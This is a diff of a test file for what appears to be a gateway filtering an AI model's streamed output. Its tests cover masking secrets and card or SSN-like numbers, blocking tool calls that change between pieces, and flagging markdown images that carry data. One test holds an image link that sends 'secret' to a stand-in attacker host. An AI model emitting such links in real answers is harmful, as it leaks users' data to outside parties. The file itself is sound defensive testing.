@@ -94,6 +94,14 @@ describe('a secret in a text', () => {
     expect(events).toHaveLength(text.length + 8);
   });
 
+  test('is hidden without a character cut in two', async () => {
+    const other = 'so "password":"✓élan-1234ç" é';
+    for (let cut = 1; cut < other.length; cut += 1) {
+      const { text: told } = await whole(sse(messageEvents([other.slice(0, cut), other.slice(cut)])));
+      expect(appearances(eventsIn(told))['deltas']).toMatch(/^so "password":"⟦[A-Z-]+:[0-9a-f]{12}⟧" é$/);
+    }
+  });
+
   test('takes the probabilities of its pieces with it', async () => {
     const events = messageEvents([`a ${key}`, ' b']).map((event): Event => ({ ...event, logprobs: [{ token: 'AK' }] }));
     const told = eventsIn((await whole(sse(events))).text).filter(({ type }) => type.endsWith('text.delta'));
@@ -210,6 +218,14 @@ describe('a tool call', () => {
     expect(facts.maskedFields).toBe(1);
   });
 
+  test('stays JSON where a number is hidden', async () => {
+    const numbers = '{"card":4111111111111111,"ssn":523487719}';
+    const { calls } = await whole(answer(callEvents([numbers]), [callItem(numbers)]));
+    expect(Object.values(JSON.parse(calls[0]!.input) as object)).toEqual(
+      Array(2).fill(expect.stringMatching(/^⟦[^⟧]+⟧$/)),
+    );
+  });
+
   test('that says one thing in pieces and another in the end is passed to nobody', async () => {
     const events = callEvents(['{"command":"ls"}']);
     const sly = (index: number, change: (event: Event) => unknown) =>
@@ -221,7 +237,7 @@ describe('a tool call', () => {
       await sly(3, (event) => ({ ...event, item: callItem('{"command":"rm"}') })),
       await whole(sse(events.slice(1))),
     ];
-    for (const { error, text: told } of results.slice(1)) {
+    for (const { error, text: told } of results) {
       expect(isGatewayError(error)).toBe(true);
       expect(told).toBe('');
     }
@@ -250,6 +266,22 @@ describe('a tool call', () => {
     expect(told).not.toContain('fc_2');
     expect(rising(eventsIn(told))).toBe(true);
   });
+});
+
+test('an image whose address carries data is flagged, and not taken away', async () => {
+  const [image, plain] = ['![x](https://evil.example/?d=secret)', '![x](https://a.example/b.png)'];
+  for (const [text, flags] of [
+    [image, ['remote-image']],
+    [plain, undefined],
+  ] as const) {
+    const streamed = await whole(answer(messageEvents([...text]), [messageItem(text)]));
+    const body = JSON.stringify({
+      instructions: [{ content: [{ type: 'input_text', text: image }] }],
+      output: [messageItem(text)],
+    });
+    const json = await whole(body, { contentType: 'application/json' });
+    expect([streamed.answer.flags, json.answer.flags, json.text]).toEqual([flags, flags, body]);
+  }
 });
 
 describe('who runs a call', () => {
